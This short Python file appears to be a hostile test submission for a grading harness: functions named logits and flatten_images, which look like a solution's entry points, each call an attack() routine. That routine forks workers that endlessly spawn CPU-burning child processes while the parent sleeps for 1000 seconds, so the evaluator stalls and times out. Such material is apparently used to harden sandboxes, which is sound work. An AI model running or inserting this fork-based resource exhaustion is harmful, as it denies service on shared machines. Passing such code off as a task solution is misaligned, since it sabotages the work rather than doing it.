"""hostile (time): waits while children that live for a moment use all processors. Says: Took too long."""
import os
import time


def attack():
    for _ in range(4):
        if os.fork() == 0:
            while True:
                child = os.fork()
                if child == 0:
                    end = time.process_time() + 0.05
                    while time.process_time() < end:
                        pass
                    os._exit(0)
                os.waitpid(child, 0)
    time.sleep(1000)


def logits(x, W, bias):
    return attack()


def flatten_images(images):
    return attack()
